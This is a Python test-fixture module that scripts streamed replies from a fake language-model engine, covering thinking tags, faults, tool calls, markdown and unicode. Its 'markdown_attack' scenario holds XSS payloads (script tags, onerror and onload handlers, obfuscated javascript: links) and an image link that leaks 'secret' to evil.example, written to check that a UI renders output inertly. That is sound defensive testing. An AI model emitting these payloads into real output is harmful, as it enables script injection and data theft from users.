"""Named behaviours of an engine. One file drives the scripted engine, the upstream and the browser tests.

Python and no data file, so that a fake made inside an event loop reads nothing from the disk.
"""

from __future__ import annotations

from thinkwell.testing.scenario import (
    STALLED_GATE,
    Fault,
    Finish,
    Scenario,
    Step,
    call,
    end,
    fault,
    gate,
    pause,
    say,
    think,
)

__all__ = [
    "STALLED_GATE",
    "Fault",
    "Finish",
    "Scenario",
    "Step",
    "calling",
    "load_scenarios",
    "saying",
    "scenario",
]


def load_scenarios() -> dict[str, Scenario]:
    """All scenarios by name."""
    return {found.name: found for found in (*_thoughts(), *_endings(), *_texts())}


def scenario(name: str) -> Scenario:
    """Raises KeyError for an unknown name."""
    return load_scenarios()[name]


def saying(*texts: str, reasoning: tuple[str, ...] = (), finish: Finish = "stop") -> Scenario:
    """A scenario made on the spot: these thoughts, then these texts, a token each."""
    steps = (*map(think, reasoning), *map(say, texts), end(finish))
    return Scenario(name="made", about="Made by a test", steps=steps, prompt_tokens=8)


def calling(*calls: tuple[Step, ...], reasoning: tuple[str, ...] = (), text: str = "") -> Scenario:
    """A scenario made on the spot: these thoughts, perhaps a text, then these tool calls."""
    said = (say(text),) if text else ()
    steps = (*map(think, reasoning), *said, *(step for one in calls for step in one), end("tool_calls"))
    return Scenario(name="made", about="Made by a test", steps=steps, prompt_tokens=8)


def _thoughts() -> tuple[Scenario, ...]:
    return (
        Scenario(
            name="think_then_answer",
            about="The thought stands between tags in the text",
            steps=(
                say("<think>"),
                say("\nTwo and two "),
                gate("thinking"),
                say("make four.\n"),
                say("</think>"),
                say("\n\nThe answer "),
                gate("answering"),
                say("is **4**."),
                end(),
            ),
        ),
        Scenario(
            name="tags_split",
            about="The tags themselves are cut over deltas",
            steps=(
                say("<th"),
                say("ink"),
                say(">A short thought.<", 4),
                say("/thi"),
                gate("thinking"),
                say("nk>An an"),
                say("swer."),
                end(),
            ),
        ),
        Scenario(
            name="fields",
            about="The engine sets the thought apart in a field of its own",
            cached_tokens=4,
            steps=(
                think("Two and two "),
                gate("thinking"),
                think("make four."),
                say("The answer "),
                gate("answering"),
                say("is **4**."),
                end(),
            ),
        ),
        Scenario(
            name="plain",
            about="No thought",
            prompt_tokens=9,
            steps=(say("Hello"), gate("answering"), say(", world"), say("."), end()),
        ),
        Scenario(
            name="thought_only",
            about="Plain text that serves as the first pass of a prompted thought",
            prompt_tokens=9,
            steps=(say("The person greets me. "), gate("thinking"), say("I greet back."), end()),
        ),
        Scenario(
            name="long_thought",
            about="A thought of 2,000 tokens",
            steps=(
                *(think(f"step {n} ") for n in range(1, 1001)),
                gate("thinking"),
                *(think(f"more {n} ") for n in range(1, 1001)),
                say("Done."),
                end(),
            ),
        ),
        Scenario(
            name="never_closes_thought",
            about="The tag is opened and never closed",
            steps=(say("<think>"), say("On and on "), gate("thinking"), say("it goes."), end("length")),
        ),
        Scenario(
            name="empty_answer",
            about="Thinks, then says nothing",
            steps=(think("There is nothing to say."), gate("thinking"), end()),
        ),
        Scenario(name="nothing", about="Ends at once without a token", steps=(end(),)),
        Scenario(
            name="calls_tools",
            about="Thinks, then calls two tools, their arguments in pieces",
            steps=(
                think("I look it up."),
                gate("thinking"),
                *call('{"city":', ' "Київ"}', name="get_weather", id="call_1"),
                *call("{}", name="get_time", id="call_2", index=1),
                end("tool_calls"),
            ),
        ),
    )


def _endings() -> tuple[Scenario, ...]:
    return (
        Scenario(
            name="length_limit",
            about="The engine's own limit of tokens is reached in mid-sentence",
            steps=(think("Thinking. "), say("The answer is"), gate("answering"), end("length")),
        ),
        Scenario(
            name="dies_midway",
            about="The process dies after some tokens",
            steps=(think("Thinking "), say("The answer"), gate("answering"), fault("dies")),
        ),
        Scenario(
            name="dies_at_once",
            about="The process dies before the first token",
            steps=(gate("start"), fault("dies")),
        ),
        Scenario(
            name="cut_stream",
            about="The stream ends without an ending",
            steps=(say("The answer"), gate("answering"), say(" is"), fault("cut")),
        ),
        Scenario(
            name="stalls",
            about="Stops sending, keeps the connection; the gate 'stalled' is held from the start",
            steps=(think("Thinking "), say("The answer"), fault("stalls")),
        ),
        Scenario(
            name="stalls_at_once", about="Takes the request and never says a token", steps=(fault("stalls"),)
        ),
        Scenario(
            name="refuses",
            about="Answers with an error in place of a stream",
            prompt_tokens=None,
            steps=(fault("refuses"),),
        ),
        Scenario(
            name="too_long",
            about="Says that the prompt is over its context",
            prompt_tokens=None,
            steps=(fault("too_long"),),
        ),
        Scenario(
            name="garbage",
            about="Sends something in mid-stream that cannot be understood",
            steps=(say("The answer"), gate("answering"), fault("garbage")),
        ),
        Scenario(
            name="slow",
            about="A pause of time before each token",
            steps=(
                pause(0.5),
                think("Slowly "),
                pause(0.2),
                think("thinking. "),
                pause(0.2),
                say("Slowly "),
                pause(0.2),
                say("said."),
                end(),
            ),
        ),
    )


def _texts() -> tuple[Scenario, ...]:
    return (
        Scenario(
            name="markdown",
            about="Every kind of block that the page renders",
            steps=(
                say(
                    "# Title\n\nA paragraph with *stress*, **strength**, `code` and [a link](https://example.org).\n\n",
                    24,
                ),
                say("- one\n- two\n  - nested\n\n1. first\n2. second\n\n> quoted\n\n", 20),
                gate("answering"),
                say("```python\nprint('<b>hi</b>')\n", 10),
                say("```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n\nEnd.", 24),
                end(),
            ),
        ),
        Scenario(
            name="markdown_attack",
            about="Output that must be shown, never run, opened or fetched",
            steps=(
                think('<img src=x onerror="window.pwned=1"> ', 9),
                say("<script>window.pwned=1</script>\n\n", 8),
                say('<img src=x onerror="window.pwned=1">\n\n', 9),
                say("![tracker](https://evil.example/pixel.png?q=secret)\n\n", 12),
                gate("answering"),
                say("[click](javascript:window.pwned=1) ", 9),
                say("[data](data:text/html,<script>window.pwned=1</script>)\n\n", 13),
                say("[tab](java\tscript:window.pwned=1) [case](JaVaScRiPt:window.pwned=1) ", 18),
                say("<javascript:window.pwned=1>\n\n", 8),
                say("<svg onload=window.pwned=1></svg><iframe src=//evil.example></iframe>\n\n", 16),
                say(
                    '<a href="vbscript:x" onclick="window.pwned=1">a</a> </textarea></title></style>\n\n', 16
                ),
                say("[ok](https://example.org) safe end.", 8),
                end(),
            ),
        ),
        Scenario(
            name="special_tokens",
            about="Control literals as plain text in an answer about them",
            steps=(
                say("A turn opens with `<|im_start|>` ", 8),
                gate("answering"),
                say("and closes with `<|im_end|>`; a thought stands in `<think>` and `</think>`. ", 20),
                say("<|endoftext|> [INST] </s>", 8),
                end(),
            ),
        ),
        Scenario(
            name="unicode",
            about="Emoji, combining marks, right-to-left and wide text, split between code points",
            steps=(
                think("Привіт, e"),
                think("\u0301"),
                think(" 思考 "),
                say("👩"),
                say("\u200d"),
                say("🚀 "),
                gate("answering"),
                say("🇺"),
                say("🇦 "),
                say("مرحبا "),
                say("שלום "),
                say("n"),
                say("\u0303"),
                say(" \u202eevil\u202c ", 3),
                say("你好。"),
                end(),
            ),
        ),
    )
